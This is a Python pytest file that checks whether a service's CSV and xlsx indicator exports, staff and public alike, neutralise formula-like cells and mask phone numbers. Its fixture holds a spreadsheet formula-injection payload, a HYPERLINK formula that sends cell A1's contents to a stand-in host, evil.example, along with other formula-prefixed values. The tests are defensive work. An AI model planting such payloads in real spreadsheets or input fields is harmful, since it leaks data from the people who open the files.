"""Exports are safe to open (issue 11 item 6): a cell that starts like a formula is text in CSV and
xlsx, staff and public exports alike; numbers inside text are masked."""

from __future__ import annotations

import csv
import io

import pytest
from openpyxl import load_workbook

from service.domain.accounts import create_department
from tests.api.test_indicators import october
from tests.conftest import bearer

EVIL_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"点我")'
EVIL_CODE = "-2+3"


@pytest.fixture
def evil(session, depts):
    create_department(session, EVIL_CODE, EVIL_NAME, "ZJJ", actor="test")
    create_department(session, "AT", "@SUM(1+1) 联系13800138000", "ZJJ", actor="test")
    october(session, depts)


def rows_of_csv(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))


def assert_safe_rows(rows):
    cells = [cell for row in rows for cell in row if isinstance(cell, str)]
    assert "'" + EVIL_NAME in cells and "'" + EVIL_CODE in cells
    assert "'@SUM(1+1) 联系138****8000" in cells
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]


def test_staff_csv_export_writes_formula_like_cells_as_text(client, make_token, evil):
    response = client.get("/api/v1/indicators.csv?period=2026-10", headers=bearer(make_token("supervisor")))
    assert response.status_code == 200
    assert_safe_rows(rows_of_csv(response.data))
    assert b"13800138000" not in response.data


def test_staff_xlsx_export_stores_formula_like_cells_as_quoted_text(client, make_token, evil):
    response = client.get("/api/v1/indicators.xlsx?period=2026-10", headers=bearer(make_token("supervisor")))
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.data))["评价"]
    cells = {cell.value: cell for row in sheet.iter_rows() for cell in row if isinstance(cell.value, str)}
    for value in (EVIL_NAME, EVIL_CODE, "@SUM(1+1) 联系138****8000"):
        assert cells[value].data_type == "s" and cells[value].quotePrefix, value
    assert not [c for c in cells.values() if c.data_type == "f"]
    assert not any("13800138000" in value for value in cells)


def test_public_csv_export_is_safe_too(client, make_token, evil):
    s1, s2 = make_token("supervisor"), make_token("supervisor")
    draft = client.post("/api/v1/publications", json={"period": "2026-10"}, headers=bearer(s1)).get_json()
    assert client.post(f"/api/v1/publications/{draft['id']}/approve", headers=bearer(s2)).status_code == 200
    response = client.get("/api/v1/public/indicators.csv?period=2026-10")
    assert response.status_code == 200
    assert_safe_rows(rows_of_csv(response.data))
